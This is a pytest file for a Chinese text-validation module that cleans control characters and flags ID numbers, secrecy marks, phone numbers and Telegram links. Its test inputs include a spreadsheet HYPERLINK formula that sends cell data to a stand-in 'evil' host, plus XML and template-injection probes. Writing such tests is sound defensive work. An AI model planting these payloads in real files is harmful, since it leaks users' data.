import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.rules import wording
from storage.rules.wording import Checked, WordingFault, WordingWarning


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("正文\u0000尾", "正文尾"),
        ("\ufffe\uffff非字符\ufdd0\U0001ffff", "非字符"),
        ("一\ud800二", "一二"),
        ("一\r\n二\r三", "一\n二\n三"),
        ('=HYPERLINK("http://evil/"&A1,"点我")', '=HYPERLINK("http://evil/"&A1,"点我")'),
        ("</w:t></w:r></w:p><w:p>", "</w:t></w:r></w:p><w:p>"),
        ("{{ ''.__class__.__mro__ }}", "{{ ''.__class__.__mro__ }}"),
        ("Ｔｅｓｔ１２３", "Ｔｅｓｔ１２３"),
        ("http://evil.example/?q=正文", "http://evil.example/?q=正文"),
        ("机密性不足；绝密这个词本身不是标志", "机密性不足；绝密这个词本身不是标志"),
        ("统一社会信用代码91110000MA0000001X", "统一社会信用代码91110000MA0000001X"),
        ("字" * 5000, "字" * 5000),
    ],
)
def test_check_cleans_without_warning(text: str, kept: str) -> None:
    assert wording.check(text) == Checked(kept)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("", WordingFault.EMPTY),
        ("\n" * 4000, WordingFault.EMPTY),
        ("\u200b\u3164\x00", WordingFault.EMPTY),
        (" " * 900_000, WordingFault.EMPTY),
        ("字" * 101, WordingFault.TOO_LONG),
        ("字" * 100_000, WordingFault.TOO_LONG),
        ("我的身份证是11010519491231002X", WordingFault.ID_NUMBER),
        ("11010519491231002x", WordingFault.ID_NUMBER),
        ("１１０１０５１９４９１２３１００２Ｘ", WordingFault.ID_NUMBER),
        ("110105 19491231 002X", WordingFault.ID_NUMBER),
        ("110105-19491231-002X", WordingFault.ID_NUMBER),
        ("1101051949\u200b1231002X", WordingFault.ID_NUMBER),
        ("第20262026号11010519491231002X", WordingFault.ID_NUMBER),
        ("机密★10年 关于……", WordingFault.SECRECY_MARK),
        ("绝 密 ★ 启封前", WordingFault.SECRECY_MARK),
        ("秘\u200b密\n★", WordingFault.SECRECY_MARK),
        ("机密级★", WordingFault.SECRECY_MARK),
    ],
)
def test_check_refuses_by_kind(text: str, kind: WordingFault) -> None:
    with pytest.raises(wording.WordingRefused) as refused:
        wording.check(text, 100)
    assert (refused.value.kind, refused.value.limit) == (kind, 100)
    assert "1949" not in repr(refused.value)


@pytest.mark.parametrize(
    ("text", "warnings"),
    [
        ("联系电话13800138000", (WordingWarning.MOBILE_NUMBER,)),
        ("+8613800138000", (WordingWarning.MOBILE_NUMBER,)),
        ("138-0013-8000", (WordingWarning.MOBILE_NUMBER,)),
        ("１３８ ００１３ ８０００", (WordingWarning.MOBILE_NUMBER,)),
        ("tg://resolve?domain=evilbot&start=x", (WordingWarning.TELEGRAM_LINK,)),
        ("见 https://t.me/evilbot?start=x", (WordingWarning.TELEGRAM_LINK,)),
        ("打13800138000或上T.ME/x", (WordingWarning.MOBILE_NUMBER, WordingWarning.TELEGRAM_LINK)),
        ("订单2138001380001号", ()),
        ("11010519491231002Y", ()),
        ("at.me/x", ()),
    ],
)
def test_check_warns(text: str, warnings: tuple[WordingWarning, ...]) -> None:
    assert wording.check(text) == Checked(text, warnings)


@pytest.mark.parametrize(
    ("text", "looks"),
    [
        ("11010519491231002Y", True),
        ("110105194912310021", True),
        ("11010519491231002X", True),
        ("110105194912310", False),
        ("1234567890123456789012", False),
        ("91110000MA0000001X", False),
    ],
)
def test_looks_like_id_number(text: str, looks: bool) -> None:
    assert wording.looks_like_id_number(text) == looks


@given(st.text(min_size=1))
def test_what_check_accepts_is_stable_and_storable(text: str) -> None:
    try:
        checked = wording.check(text)
    except wording.WordingRefused:
        return
    assert wording.check(checked.text) == checked
    assert checked.text.encode().decode() == checked.text
    assert [char for char in checked.text if char in "\x00\r\ufffe\uffff"] == []
